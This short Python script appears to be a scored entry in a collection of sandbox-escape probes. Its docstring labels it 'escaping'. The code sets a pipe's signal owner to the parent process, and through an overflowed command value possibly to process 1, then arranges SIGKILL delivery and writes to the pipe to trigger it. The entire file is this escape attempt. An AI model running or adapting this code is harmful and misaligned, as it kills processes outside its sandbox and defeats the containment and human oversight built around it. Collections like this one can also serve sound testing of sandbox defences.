"""escaping: let the kernel send signals to others, through the owner of a pipe

score: 4
"""

import fcntl
import os

reader, writer = os.pipe()
for command, value in ((8, os.getppid()), (10, 9), (4, os.O_ASYNC), ((1 << 32) | 8, 1)):
    try:
        fcntl.fcntl(reader, command, value)
        print("GOT" if command != 4 else "flags", command)
    except (OSError, OverflowError) as error:
        print(error)
os.write(writer, b"x")
